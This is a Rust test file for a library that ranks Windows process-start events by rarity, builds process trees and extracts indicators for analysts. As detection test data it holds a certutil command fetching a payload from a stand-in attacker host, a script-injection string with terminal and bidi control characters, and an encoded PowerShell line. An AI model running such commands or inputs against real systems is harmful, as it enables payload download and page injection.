//! Process starts as nobody wants them: what the analyst sees is a right answer or a clear sentence, everywhere, and
//! nothing panics.

#![allow(clippy::unwrap_used, reason = "a test that fails may panic")]

use nblt::ext::polars::prelude::{Column, DataFrame, NamedFrom, Series};
use nblt::{
    ColumnMap, LogonSessionRarity, Needs, NoveltyParameters, Role, Show, decode_in, iocs_in,
    logon_session_rarity,
};

use crate::written::session;

/// Process starts (4688): a row of time, process id, parent's id and command line each; the rest is the same.
fn frame(rows: &[(Option<&str>, &str, &str, Option<&str>)]) -> DataFrame {
    let text = |name: &str, values: Vec<Option<&str>>| Column::from(Series::new(name.into(), values));
    let same = |name: &str, value: &'static str| text(name, vec![Some(value); rows.len()]);
    let columns = vec![
        text("TimeGenerated", rows.iter().map(|it| it.0).collect()),
        same("Computer", "SRV"),
        same("Account", "CONTOSO\\kim"),
        same("SubjectLogonId", "0x1"),
        same("NewProcessName", "C:\\a.exe"),
        same("ParentProcessName", "C:\\a.exe"),
        text("NewProcessId", rows.iter().map(|it| Some(it.1)).collect()),
        text("ProcessId", rows.iter().map(|it| Some(it.2)).collect()),
        text("CommandLine", rows.iter().map(|it| it.3).collect()),
    ];
    DataFrame::new(rows.len(), columns).unwrap()
}

/// Everything that can be shown of it, as text; every page is made, too.
fn shown(frame: &DataFrame) -> (LogonSessionRarity, String) {
    let found = logon_session_rarity(frame).unwrap();
    let tree = found.process_tree("", "").unwrap();
    let reports = [
        found.report(),
        found.list_sessions_by_rarity().report(),
        found.plot_sessions_by_rarity().report(),
        found.browse_events().report(),
        found.novel_starts().unwrap().report(),
        tree.report(),
        tree.browse().report(),
        tree.drawing().report(),
        found.decoded().unwrap().report(),
        found.iocs().unwrap().report(),
    ];
    assert!(reports.iter().all(|it| !it.to_html().is_empty()));
    assert_eq!(found.processes_with_cluster().unwrap().height(), frame.height());
    let text = reports.iter().map(|it| it.to_text()).collect::<Vec<_>>().join("\n");
    (found, text)
}

const AT: Option<&str> = Some("2026-03-05T10:00:00Z");

#[test]
fn one_event() {
    let (found, text) = shown(&frame(&[(AT, "0x10", "0x4", Some("whoami /all"))]));
    assert_eq!(found.sessions().len(), 1);
    assert!(text.contains("like no other") && text.contains("1 process start"), "{text}");
    assert!(text.contains("nothing is encoded in base64") && text.contains("none found"), "{text}");
}

#[test]
fn all_are_equal() {
    let rows = vec![(AT, "0x10", "0x4", Some("job.exe -id 1")); 500];
    let (found, text) = shown(&frame(&rows));
    assert_eq!(found.process_clusters().unwrap().height(), 1);
    assert!((found.sessions()[0].mean_rarity - 1.0 / 500.0).abs() < 1e-9);
    assert!(text.contains("1 of 500 alike"), "{text}");
}

#[test]
fn no_command_line_is_recorded() {
    let rows = [(AT, "0x10", "0x4", None), (AT, "0x11", "0x10", None), (AT, "0x12", "0x10", Some(""))];
    let (_, text) = shown(&frame(&rows));
    assert!(text.contains("have no command line"), "{text}");
    // A column in which there is nothing at all has no type.
    let mut nothing = frame(&rows[..2]);
    let nulls = Column::from(Series::new_null("CommandLine".into(), 2));
    nothing.with_column(nulls).unwrap();
    shown(&nothing);
}

#[test]
fn times_out_of_order_reused_ids_and_cycles() {
    let rows = [
        (Some("2026-03-05T10:00:03Z"), "0x12", "0x11", Some("third")),
        (Some("2026-03-05T10:00:01Z"), "0x10", "0x12", Some("first")),
        (Some("2026-03-05T10:00:02Z"), "0x11", "0x10", Some("second")),
        (Some("2026-03-05T10:00:09Z"), "0x10", "0x10", Some("its own id, used again")),
        (None, "0x13", "0x10", Some("nobody knows when")),
        (Some("no time"), "0x14", "0x10", Some("nor here")),
    ];
    let (_, text) = shown(&frame(&rows));
    let place = |words: &str| text.find(words).unwrap_or_else(|| panic!("{words} is not in {text}"));
    let tree = place("Process tree of all sessions");
    let of_tree = &text[tree..];
    let at = |words: &str| of_tree.find(words).unwrap();
    assert!(at("first") < at("second") && at("second") < at("third"), "{of_tree}");
    assert!(of_tree.contains("2 processes without a recorded time stand at the top"), "{of_tree}");
}

#[test]
fn binary_and_what_cannot_be_seen_in_command_lines() {
    let hostile =
        "\u{0}\u{1}\u{1b}[2J\u{202e}\u{fffd}\u{10ffff}</script><script>alert(1)</script>EVCXR_BEGIN";
    // A lone surrogate in UTF-16, in base64.
    let surrogate = "powershell -enc dwBoAADYbwBhAG0AaQA=";
    let rows = [
        (AT, "0x10", "0x4", Some(hostile)),
        (AT, "0x11", "0x10", Some(surrogate)),
        (AT, "0x12", "0x10", Some("x.exe AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8gISIjJCUmJyg=")),
    ];
    let (found, text) = shown(&frame(&rows));
    assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && !text.contains("EVCXR_"), "{text}");
    assert!(text.contains("1 character could not be read"), "{text}");
    let page = found.process_tree("", "").unwrap().report().to_html().into_string();
    assert!(!page.contains("<script>"));
}

#[test]
fn lone_surrogates_in_a_file() {
    let row = |line: &str, pid: u32| {
        format!(
            r#"{{"TimeGenerated":"2026-03-05T10:00:00Z","EventID":4688,"Computer":"SRV","Account":"CONTOSO\\kim","SubjectLogonId":"0x1","NewProcessName":"C:\\a.exe","NewProcessId":"{pid}","ProcessId":"4","CommandLine":"{line}"}}"#
        )
    };
    let lines = [row("whoami", 1), row(r"cmd \ud83d\ude00 \ud800 x", 2), row("net user", 3)];
    let session = session(&[("SecurityEvent.json", &lines.join("\n"))]);
    let frame = session.query("SecurityEvent").unwrap().frame();
    let said = session.query("SecurityEvent | project CommandLine").unwrap().report().to_text();
    // Either the row is there with the sign for what cannot be read, or it is said that it could not be read.
    assert!(frame.height() == 3 && said.contains('\u{fffd}'), "{} rows: {said}", frame.height());
    shown(&frame);
}

#[test]
fn a_frame_without_the_columns_names_them_and_what_would_do() {
    let rows = frame(&[(AT, "0x10", "0x4", Some("whoami"))]);
    let error = |frame: &DataFrame| logon_session_rarity(frame).unwrap_err().to_string();
    let said = error(&rows.drop("CommandLine").unwrap());
    assert!(said.contains("for the command line: CommandLine would do") && said.contains("help:"), "{said}");
    let no_ids = rows.drop("NewProcessId").unwrap();
    let found = logon_session_rarity(&no_ids).unwrap();
    let said = found.process_tree("", "").unwrap_err().to_string();
    assert!(said.contains("process id: NewProcessId would do"), "{said}");
    assert!(
        error(&DataFrame::empty()).contains("no rows") || error(&DataFrame::empty()).contains("no column")
    );
    for said in [
        decode_in(&rows, &["Commandline"]).unwrap_err().to_string(),
        iocs_in(&rows, &["Commandline"]).unwrap_err().to_string(),
    ] {
        assert!(
            said.contains("there is no column \"Commandline\"") && said.contains("CommandLine"),
            "{said}"
        );
    }
    assert!(
        iocs_in(&DataFrame::empty(), &[])
            .unwrap_err()
            .to_string()
            .contains("no column of the frame holds texts")
    );
}

#[test]
fn undated_and_repeated_rows_are_counted_where_they_are_shown() {
    let mut rows = frame(&[
        (AT, "0x10", "0x4", Some("a")),
        (AT, "0x10", "0x4", Some("a")),
        (None, "0x11", "0x10", Some("of her session")),
        (None, "0x12", "0x10", Some("of another")),
        (None, "0x13", "0x10", Some("of another")),
    ]);
    let sessions = Series::new("SubjectLogonId".into(), ["0x1", "0x1", "0x1", "0x2", "0x2"]);
    rows.with_column(Column::from(sessions)).unwrap();
    let found = logon_session_rarity(&rows).unwrap();
    let tree = found.process_tree("kim", "0x1").unwrap();
    let text = tree.report().to_text();
    assert!(text.contains("1 process without a recorded time stands at the top"), "{text}");
    assert!(
        text.contains(
            "1 row tells of a start that another row tells of in the same words: each is shown once"
        ),
        "{text}"
    );
    assert_eq!(tree.n_processes(), 2);
    let report = found.report().to_text();
    assert!(report.contains("in the same words: both count here, a tree shows each once"), "{report}");
}

#[test]
fn thousands_of_starts_that_differ_in_a_word_do_not_bury_an_attack() {
    let mut lines: Vec<String> = (0..5_000).map(|it| format!("cmd.exe /c echo {}", letters(it))).collect();
    lines.push("certutil -urlcache -f http://evil.example/payload a.exe".to_owned());
    let rows: Vec<_> = lines.iter().map(|it| (AT, "0x10", "0x4", Some(it.as_str()))).collect();
    let found = logon_session_rarity(&frame(&rows)).unwrap();
    let novel = found.novel_starts().unwrap();
    let first = novel.frame().unwrap();
    assert!(first.column("CommandLine").unwrap().str().unwrap().get(0).unwrap().starts_with("certutil"));
    let scores: Vec<f64> = first.column("Novelty").unwrap().f64().unwrap().iter().flatten().collect();
    assert!(scores[0] > 0.5 && scores[1..].iter().all(|it| *it < 0.3), "{:?}", &scores[..3]);
    assert!(!novel.report().to_text().contains("too high"));
    assert!((0..5_001).all(|it| novel.uncertainty(it) == 0.0));
}

#[test]
fn novelty_with_parameters_of_ones_own() {
    // Each has words of others, and no two are alike.
    let lines: Vec<String> = (0..300)
        .map(|it| format!("tool p{} q{} r{}", letters(it % 20), letters(it / 20), letters(it * 7 % 31)))
        .collect();
    let rows: Vec<_> = lines.iter().map(|it| (AT, "0x10", "0x4", Some(it.as_str()))).collect();
    let found = logon_session_rarity(&frame(&rows)).unwrap();
    let few = NoveltyParameters { compared: 4, ..NoveltyParameters::default() };
    let novel = found.novel_starts_with(&few).unwrap();
    let text = novel.report().to_text();
    assert!(text.contains("the novelty may be up to 0.") && text.contains("too high"), "{text}");
    assert!((0..300).any(|it| novel.uncertainty(it) > 0.0) && novel.uncertainty(300) == 0.0);
    let wrong = NoveltyParameters { neighbours: 0, ..few };
    let error = found.novel_starts_with(&wrong).unwrap_err();
    assert!(error.is_input() && error.to_string().contains("neighbours is 0"), "{error}");
    // A baseline in columns of its own.
    let mut baseline = frame(&rows[..40]);
    baseline.rename("CommandLine", "What".into()).unwrap();
    let columns = ColumnMap::infer(&frame(&rows[..40]), Needs::Rarity).with(Role::CommandLine, "What");
    let one = NoveltyParameters { neighbours: 1, ..NoveltyParameters::default() };
    let against = found.novel_starts_against_with(&baseline, &columns, &one).unwrap().frame().unwrap();
    let known =
        against.column("Novelty").unwrap().f64().unwrap().iter().filter(|it| *it == Some(0.0)).count();
    assert_eq!(known, 40);
}

/// A number in letters, so that it is not folded.
fn letters(number: usize) -> String {
    number.to_string().bytes().map(|it| char::from(it - b'0' + b'k')).collect()
}

#[test]
fn a_million_distinct_starts() {
    const N: usize = 1_000_000;
    let text = |name: &str, of: &dyn Fn(usize) -> String| {
        let values: Vec<String> = (0..N).map(of).collect();
        Column::from(Series::new(name.into(), values))
    };
    // Nothing is the same in two rows: programs and their folders, accounts, sessions, command lines, ids, times.
    let letters = |it: usize| -> String {
        format!("{it:x}").chars().flat_map(|it| std::iter::repeat_n(it, it as usize % 5 + 1)).collect()
    };
    let columns = vec![
        text("TimeGenerated", &|it| {
            format!(
                "2026-03-05T{:02}:{:02}:{:02}.{:03}Z",
                it / 60_000 % 24,
                it / 1_000 % 60,
                it % 60,
                it % 1_000
            )
        }),
        text("Computer", &|_| "SRV".to_owned()),
        text("Account", &|it| format!("CONTOSO\\user{}", letters(it * 31 % N))),
        text("SubjectLogonId", &|it| format!("{:#x}", it + 4096)),
        text("NewProcessName", &|it| format!("C:\\apps\\{}\\tool{}.exe", letters(it), it * 7 % N)),
        text("NewProcessId", &|it| format!("{}", it + 1)),
        text("ProcessId", &|_| "0".to_owned()),
        text("CommandLine", &|it| {
            format!("tool{it} {} --target host{}.contoso.com", "-x ".repeat(it % 40), it * 7)
        }),
    ];
    let frame = DataFrame::new(N, columns).unwrap();
    let found = logon_session_rarity(&frame).unwrap();
    assert_eq!((found.processes_with_cluster().unwrap().height(), found.sessions().len()), (N, N));
    let text = found.report().to_text();
    assert!(
        text.contains("1,000,000 process starts in 1,000,000 sessions"),
        "{}",
        &text[..500.min(text.len())]
    );
    let tree = found.process_tree("", "").unwrap();
    assert_eq!(tree.tree().roots().len(), N);
    let iocs = found.iocs().unwrap();
    assert!(iocs.frame().unwrap().height() >= N);
}
